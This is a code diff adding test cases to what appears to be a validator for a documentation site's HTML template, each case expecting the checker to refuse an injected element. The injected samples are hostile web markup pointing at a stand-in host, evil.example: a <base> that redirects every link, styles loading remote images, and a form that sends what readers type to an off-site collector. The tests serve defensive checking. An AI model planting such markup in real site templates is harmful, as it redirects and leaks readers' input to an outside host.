@@ -591,6 +591,11 @@ CASES |= {
 }
 
 
+TEMPLATE = "overrides/base.html"
+DRAWER = '    <input class="md-toggle" data-md-toggle="drawer" type="checkbox" id="__drawer">'
+TEMPLATE_FIX = "remove it, or serve what it needs from the site itself (docs/): templates may not break the site's promises"
+
+
 # Lists and mappings where an id or a number is expected, and empty names: each field is typed by the
 # ledgers' schemas, so a wrong kind of value is refused at its line and never reaches the code.
 CASES |= {
@@ -667,6 +672,26 @@ CASES |= {
         replace(EDITION, "title: In Iraq, Restraint Is America’s Best Option", "title: In Iraq, Restraint Is America’s Best Option}"),
         f"{EDITION}:3: 'title' must be the edition's title, as text (no markup), got 'In Iraq, Restraint Is America’s Best "
         "Option}'; correct it"),
+    "a <base> in a template": (
+        replace("overrides/base.html", DRAWER, DRAWER + '<base href="https://evil.example/">'),
+        f"{TEMPLATE}:105: every page would carry a <base> element, which moves every relative link of the page elsewhere"
+        f"; {TEMPLATE_FIX}"),
+    "an inline style from another host in a template": (
+        replace("overrides/base.html", DRAWER, DRAWER + '<style>body{background:url(https://evil.example/x.png)}</style>'),
+        f"{TEMPLATE}:105: every page would carry a style that loads 'https://evil.example/x.png' from another host"
+        f"; {TEMPLATE_FIX}"),
+    "a form posting off site in a template": (
+        replace("overrides/base.html", DRAWER, DRAWER + '<form action="https://evil.example/collect"><input name=q></form>'),
+        f"{TEMPLATE}:105: every page would carry a <form action> that sends what readers type to 'https://evil.example/collect'"
+        f"; {TEMPLATE_FIX}"),
+    "an iframe srcdoc in a template": (
+        replace("overrides/base.html", DRAWER, DRAWER + '<iframe srcdoc="<p>x</p>"></iframe>'),
+        f"{TEMPLATE}:105: every page would carry an <iframe srcdoc>, a page of its own that no check of the edition reads"
+        f"; {TEMPLATE_FIX}"),
+    "a style attribute from another host in a template": (
+        replace("overrides/base.html", DRAWER, DRAWER + '<div style="background-image:url(//evil.example/x)"></div>'),
+        f"{TEMPLATE}:105: every page would carry a style that loads '//evil.example/x' from another host"
+        f"; {TEMPLATE_FIX}"),
     "an empty glossary name": (
         replace("sources/essay/glossary.yml", "  name: Kataib Hizbullah", "  name: \"\""),
         "sources/essay/glossary.yml:5: glossary entry 'kataib-hizbullah': 'name' must be text (the entry's name), got ''; "
